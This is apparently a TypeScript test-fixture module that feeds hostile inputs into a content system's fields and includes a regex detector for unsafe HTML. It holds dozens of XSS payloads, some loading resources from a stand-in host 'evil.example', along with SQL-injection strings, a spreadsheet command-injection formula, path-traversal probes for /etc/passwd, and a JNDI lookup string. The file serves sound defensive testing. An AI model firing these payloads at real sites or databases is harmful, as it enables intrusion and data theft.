import { storedName } from "#kernel/stored-name.ts";
import type { Field, Fields } from "#kernel/field.ts";

/** Name of the function that each script would call if it ran. FOREIGN is the host that each fetch would contact. */
export const CANARY = "__canary";
export const FOREIGN = "evil.example";

const run = `${CANARY}()`;
const of = (...points: number[]): string => String.fromCharCode(...points);

/** Markup that runs a script or fetches something if a page does not escape it. It is short enough for most fields. */
export const markup: readonly string[] = [
  `<script>${run}</script>`,
  `"><script>${run}</script>`,
  `</title><script>${run}</script>`,
  `</textarea><script>${run}</script>`,
  `<sCrIpT>${run}</ScRiPt>`,
  `<script src=//${FOREIGN}/a.js></script>`,
  `<script>${run}//`,
  `<<script>${run}//<</script>`,
  `<scr<script>ipt>${run}</scr</script>ipt>`,
  `<img src=x onerror=${run}>`,
  `<img src=x onerror="${run}"`,
  `<img/src=//${FOREIGN}/a.png>`,
  `<img srcset=//${FOREIGN}/a.png>`,
  `"onmouseover="${run}" autofocus onfocus="${run}`,
  `' onfocus='${run}' autofocus='`,
  `<body onload=${run}>`,
  `<input autofocus onfocus=${run}>`,
  `<details open ontoggle=${run}>x`,
  `<video><source onerror=${run}>`,
  `<audio src=x onerror=${run}>`,
  `<marquee onstart=${run}>x</marquee>`,
  `<iframe src=javascript:${run}>`,
  `<iframe srcdoc="<script>top.${run}</script>">`,
  `<object data=javascript:${run}>`,
  `<embed src=//${FOREIGN}/a.swf>`,
  `<a href=javascript:${run}>x</a>`,
  `<a href="java\tscript:${run}">x</a>`,
  `<a href="jav&#x09;ascript:${run}">x</a>`,
  `<a href="&#106;avascript:${run}">x</a>`,
  `<a href=data:text/html,<script>${run}</script>>x</a>`,
  `<a href=vbscript:${run}>x</a>`,
  `javascript:${run}`,
  `data:text/html,<script>${run}</script>`,
  `<form action=javascript:${run}><button>x`,
  `<button formaction=javascript:${run}>x`,
  `<isindex action=javascript:${run} type=image>`,
  `<svg onload=${run}>`,
  `<svg><script>${run}</script></svg>`,
  `<svg/onload=${run}//`,
  `<svg><animate onbegin=${run} attributeName=x>`,
  `<svg><use href=//${FOREIGN}/a.svg#x>`,
  `<math><maction xlink:href=javascript:${run}>x`,
  `<math href=javascript:${run}>x</math>`,
  `<math><mtext><style><img src onerror=${run}>`,
  `<svg></p><style><a id="</style><img src onerror=${run}>`,
  `<noscript><p title="</noscript><img src onerror=${run}>`,
  `<!--><img src=x onerror=${run}>-->`,
  `<![CDATA[<script>${run}</script>]]>`,
  `<template><script>${run}</script></template>`,
  `<xmp><p title="</xmp><img src onerror=${run}>`,
  `<style>@import'//${FOREIGN}/a.css'</style>`,
  `<p style="background:url(//${FOREIGN}/a)">x`,
  `<link rel=stylesheet href=//${FOREIGN}/a.css>`,
  `<meta http-equiv=refresh content=0;//${FOREIGN}>`,
  `<base href=//${FOREIGN}/>`,
  `{{constructor.constructor('${run}')()}}`,
  `\${${run}}`,
  `<%= ${run} %>`,
  `&lt;script&gt;${run}&lt;/script&gt;`,
  `&#60;script&#62;${run}&#60;/script&#62;`,
  `&#x3C;img src=x onerror=${run}&#x3E;`,
  `%3Cscript%3E${run}%3C/script%3E`,
  `&amp;lt;script&amp;gt; &#0; &#xD800; &broken`,
  `\\u003cscript\\u003e${run}\\u003c/script\\u003e`,
];

/** Texts that attack other parts than the page: the database, a spreadsheet, a file system, the program itself. */
export const fragments: readonly string[] = [
  "' or '1'='1",
  "'; drop table model; --",
  "') union select password_hash from admin --",
  "1; select pg_sleep(5)",
  "$1 $$ $tag$ \\' \\\\ %s %n",
  "% _ %25 *",
  "=cmd|'/c calc'!A1",
  "+1+1",
  "-1+1",
  "@SUM(1,1)",
  '"quoted","cells",',
  "../../../../etc/passwd",
  "..\\..\\windows\\win.ini",
  "file:///etc/passwd",
  "/dev/null",
  "__proto__",
  "constructor",
  "prototype.polluted",
  "toString",
  "null",
  "undefined",
  "[object Object]",
  "true",
  "1e309",
  '{"a":[1]}',
  "${jndi:ldap://x/a}",
  "a\nb: c",
  "مرحبا بالعالم",
  `שלום ${of(0x200f)} 123`,
  "👩‍👩‍👧 Z͑ͫ̓ͪ̂ͫ a",
  "状态:待审核 -分类:*",
];

/** Texts that every visible field must refuse: they look like another text or cannot be stored. */
export const unreadable: readonly string[] = [
  `a${of(0)}b`,
  `a${of(0xd800)}b`,
  `a${of(0xdc00)}`,
  `a${of(0x202e)}txt.exe`,
  `a${of(0x2066)}b${of(0x2069)}`,
  `a${of(0x200b)}b`,
  `a${of(0x200d)}b`,
  `a${of(0x1b)}[31m`,
  `a${of(0xfeff)}b`,
  `a${of(0x2060)}b`,
  `a${of(0x85)}b`,
];

/** Position of one text in a record: its path in a refusal, its field, and functions to set and get the text. */
export interface Place {
  path: string;
  /** Name of the record's own field. */
  name: string;
  field: Field;
  /** Returns the whole value of the field `name`, with the text at this position and everything else from `base`. */
  put(base: unknown, text: string): unknown;
  get(value: unknown): unknown;
}

type Values = Record<string, unknown>;
const inside = (place: Place, key: string | number, path: string, name: string): Place => ({
  ...place,
  path,
  name,
  put: (base, text) => {
    const current = (base as Values | undefined)?.[key];
    const value = place.put(current, text);
    if (Array.isArray(base)) return base.map((one: unknown, i) => (i === key ? value : one));
    return { ...(base as Values), [key]: value };
  },
  get: (value) => place.get((value as Values)[key]),
});

/** Parts with a condition do not exist in most values, so their texts have no place. */
const withoutConditions = (shape: Fields): Fields =>
  Object.fromEntries(Object.entries(shape).filter(([, { when }]) => when === undefined));

function placesOf(name: string, field: Field): Place[] {
  const here: Place = { path: name, name, field, put: (_, text) => text, get: (value) => value };
  if (["text", "longText", "html", "url", "color", "date"].includes(field.kind)) return [here];
  if (field.kind === "i18n") return ["1", "0"].map((language) => inside(here, language, `${name}.${language}`, name));
  if (["image", "video", "file"].includes(field.kind)) return [inside(here, "name", `${name}.name`, name)];
  if (field.kind === "images") return [inside(inside(here, "name", "", name), 0, `${name}[0].name`, name)];
  const parts = field.shape ? textPlaces(withoutConditions(field.shape)) : field.each ? placesOf("", field.each) : [];
  return parts.map((part) => {
    const below = field.shape ? inside(part, part.name, "", name) : part;
    const rest = field.shape ? `.${part.path}` : part.path;
    return field.many ? inside(below, 0, `${name}[0]${rest}`, name) : { ...below, path: `${name}${rest}`, name };
  });
}

/** Returns the positions of all texts in the values of these fields. */
export const textPlaces = (fields: Fields): Place[] =>
  Object.entries(fields).flatMap(([name, field]) => placesOf(name, field));

/** Places with the same key are drawn in the same way: kind and depth. */
export const lookOfPlace = ({ field, path, name }: Place): string =>
  [
    field.kind,
    path === name ? "own" : path.replace(name, "").replace(/\w+/g, "x"),
    field.rich,
    field.noTrim,
    field.unseen,
  ].join(" ");

/** Returns the text as a place keeps it: the name of a file is one line without folders, and empty where none is left. */
export const keptText = ({ field, path }: Place, text: string): string =>
  ["image", "images", "video", "file"].includes(field.kind) && path.endsWith(".name") ? storedName(text) : text.trim();

/** Places with the same key are checked and stored in the same way: their look, and the pattern of a text. */
export const kindOfPlace = (place: Place): string => `${lookOfPlace(place)} ${place.field.pattern ? place.name : ""}`;

/** Returns the parts of rich text that could run a script, fetch something or change the page around the text. */
export function dangers(html: string): string[] {
  const tags = html.match(/<[^>]*>?/g) ?? [];
  return tags.filter(
    (tag) =>
      !/^<\/?(a|b|blockquote|br|code|del|details|div|dl|dt|dd|em|h[1-6]|hr|i|ins|kbd|li|ol|p|pre|q|rp|rt|ruby|s|samp|section|span|strike|strong|sub|summary|sup|table|tbody|td|tfoot|th|thead|tr|tt|ul|var)\b[^<]*>$/i.test(
        tag,
      ) ||
      /[\s/"'](on\w+|style|id|srcdoc|formaction|xlink:href|src)\s*=/i.test(tag) ||
      /href\s*=\s*["']?(?!https?:|mailto:|\/|#)[^"'>\s]*:/i.test(tag),
  );
}
